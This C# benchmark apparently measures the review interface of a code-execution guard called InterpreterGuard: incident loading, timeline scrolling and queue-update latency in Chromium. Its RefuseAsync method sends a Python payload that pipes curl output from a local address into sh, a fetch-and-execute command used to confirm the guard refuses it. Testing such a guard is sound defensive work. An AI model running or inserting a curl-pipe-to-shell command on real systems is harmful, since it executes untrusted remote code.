using System.Globalization;
using System.Net.Http.Json;
using System.Text.Json;
using InterpreterGuard.Core.Identity;

namespace InterpreterGuard.Benchmarks;

/// <summary>What a reviewer waits for, in a real browser at a real host: an incident with twenty thousand observations, its timeline, and news in an open queue.</summary>
internal sealed class ReviewSpeed : IBenchmark
{
    private const int Observed = 20_000;
    private const int Others = 2000;
    private const int AtOnce = 16;
    private const int Opened = 10;
    private const int Jumps = 20;
    private const int JumpRows = 10_000;
    private const int News = 20;
    private const int RowsMax = 200;

    /// <summary>Says when the timeline's first rows were there and took room, in milliseconds since the navigation began.</summary>
    private const string WatchRows =
        """
        const look = () => {
          const row = document.querySelector('.timeline-rows a.timeline-row .rule');
          if (row?.getClientRects().length > 0) window.rowsAt = performance.now(); else requestAnimationFrame(look);
        };
        requestAnimationFrame(look);
        """;

    /// <summary>Jumps to a row and waits until it is shown: milliseconds, and rows in the page.</summary>
    private const string Jump =
        """
        async place => {
          const list = document.querySelector('.timeline-rows');
          const begun = performance.now();
          list.scrollTop = place * 24;
          while (!list.querySelector(`[data-place="${place + 2}"]`)) await new Promise(requestAnimationFrame);
          return [performance.now() - begun, list.querySelectorAll('.timeline-row').length];
        }
        """;

    /// <summary>Scrolls row by row for some seconds: the 95th percentile of the time between two frames, and most rows in the page.</summary>
    private const string Scroll =
        """
        async () => {
          const list = document.querySelector('.timeline-rows');
          list.scrollTop = 0;
          const gaps = [];
          let most = 0, last = performance.now();
          for (let i = 0; i < 180; i++) {
            list.scrollTop += 48;
            await new Promise(requestAnimationFrame);
            gaps.push(performance.now() - last);
            last = performance.now();
            most = Math.max(most, list.querySelectorAll('.timeline-row').length);
          }
          gaps.sort((a, b) => a - b);
          return [gaps[Math.ceil(gaps.length * 0.95) - 1], most];
        }
        """;

    /// <summary>Says when the bar of news changes next, in milliseconds of the machine's clock.</summary>
    private const string WatchNews =
        """
        () => {
          const words = () => document.querySelector('.news-button')?.textContent ?? '';
          const before = words();
          window.newsAt = undefined;
          const watch = new MutationObserver(() => {
            if (words() === before) return;
            window.newsAt = Date.now();
            watch.disconnect();
          });
          watch.observe(document.body, { childList: true, subtree: true, characterData: true });
        }
        """;

    /// <summary>Waits for what one of the others says. The page's policy for content allows no text to be made code, so the browser cannot be asked to wait for an expression.</summary>
    private const string Once =
        """
        async name => {
          while (window[name] === undefined) await new Promise(requestAnimationFrame);
          return window[name];
        }
        """;

    public string Name => "review";

    public string Description => $"an incident of {Observed} observations and news of the queue, in Chromium";

    public bool NeedsHost => false;

    public async Task<IReadOnlyList<BenchLine>> RunAsync(BenchHost host)
    {
        var big = default(IncidentId);
        await using var own = await BenchHost.StartAsync(
            warm: 0, new Dictionary<string, string>(StringComparer.Ordinal) { ["Storage__Joining__Window"] = "00:00:00" }, fill: async store => big = await FillAsync(store));
        await using var browser = await ReviewBrowser.SignInAsync(own.Agent.BaseAddress!, own.FirstPassword);
        var news = await NewsAsync(own, browser);
        return [await OpenAsync(browser, big), .. await ScrollAsync(browser), news];
    }

    private static async Task<IncidentId> FillAsync(BenchStore store)
    {
        var now = TimeProvider.System.GetUtcNow();
        await Parallel.ForAsync(0, Others, new ParallelOptions { MaxDegreeOfParallelism = AtOnce }, async (i, _) =>
            await KeptIncident.KeepAsync(store.Evidence, i, now - TimeSpan.FromSeconds(Others - i), observed: 0));
        return (await KeptIncident.KeepAsync(store.Evidence, Others, now, Observed)).Incident;
    }

    private static async Task<BenchLine> OpenAsync(ReviewBrowser browser, IncidentId big)
    {
        await browser.Page.AddInitScriptAsync(WatchRows);
        var times = new Samples();
        var first = TimeSpan.Zero;
        for (var round = 0; round <= Opened; round++)
        {
            await browser.Page.GotoAsync($"/review/incidents/{big}?show=all");
            var took = TimeSpan.FromMilliseconds(await browser.Page.EvaluateAsync<double>(Once, "rowsAt"));
            if (round == 0)
                first = took;
            else
                times.Add(took);
        }

        return new(
            $"opening an incident of {Observed}", $"{times.Median:F0} ms", $"p95 {times.Percentile(95):F0} ms, the first time {first.TotalMilliseconds:F0} ms", $"{times.Percentile(95):F0} ms", "p95 under 1 s", times.Percentile(95) < 1000);
    }

    private static async Task<IReadOnlyList<BenchLine>> ScrollAsync(ReviewBrowser browser)
    {
        await browser.Page.Locator("main[data-live=yes]").WaitForAsync(new() { State = Microsoft.Playwright.WaitForSelectorState.Attached });
        var (times, most) = (new Samples(), 0.0);
        for (var jump = 0; jump < Jumps; jump++)
        {
            var seen = await browser.Page.EvaluateAsync<double[]>(Jump, (jump % 2 * JumpRows) + (jump * 50));
            times.Add(TimeSpan.FromMilliseconds(seen[0]));
            most = Math.Max(most, seen[1]);
        }

        var scrolled = await browser.Page.EvaluateAsync<double[]>(Scroll);
        most = Math.Max(most, scrolled[1]);
        return
        [
            new($"a jump by {JumpRows} rows", $"{times.Median:F0} ms", $"p95 {times.Percentile(95):F0} ms", $"{times.Percentile(95):F0} ms", "p95 under 1 s", times.Percentile(95) < 1000),
            new("scrolling, from frame to frame", $"{scrolled[0]:F0} ms", "95 of 100 frames", $"{scrolled[0]:F0} ms", "p95 under 50 ms", scrolled[0] < 50),
            new($"rows of {Observed} in the page", $"{most:F0}", "at most, while it scrolls and jumps", $"{most:F0}", $"at most {RowsMax}", most <= RowsMax),
        ];
    }

    // From before the program is sent until the open page says so: reading, refusing and keeping it are counted in.
    private static async Task<BenchLine> NewsAsync(BenchHost host, ReviewBrowser browser)
    {
        await browser.OpenAsync("/review/queue");
        var times = new Samples();
        for (var number = -1; number < News; number++)
        {
            await browser.Page.EvaluateAsync(WatchNews);
            await Task.Delay(200 + ((number + 1) * 137 % 1000));
            var sent = TimeProvider.System.GetUtcNow();
            await RefuseAsync(host, number);
            var told = await browser.Page.EvaluateAsync<double>(Once, "newsAt");
            if (number >= 0)
                times.Add(TimeSpan.FromMilliseconds(told - sent.ToUnixTimeMilliseconds()));
        }

        return new("from the attempt to an open queue", $"{times.Median:F0} ms", $"p95 {times.Percentile(95):F0} ms, at most {times.Percentile(100):F0} ms", $"{times.Percentile(100):F0} ms", "always under 1 s", times.Percentile(100) < 1000);
    }

    private static async Task RefuseAsync(BenchHost host, int number)
    {
        var code = string.Create(CultureInfo.InvariantCulture, $"import os\nos.system('curl -s http://127.0.0.1:9/{number} | sh')\n");
        using var response = await host.Agent.PostAsJsonAsync("/v1/executions", new { language = "python", code });
        var answer = await response.Content.ReadFromJsonAsync<JsonElement>();
        if (!answer.TryGetProperty("status", out var status) || status.GetString() != "refused")
            throw new InvalidOperationException($"the program was not refused: {answer}");
    }
}
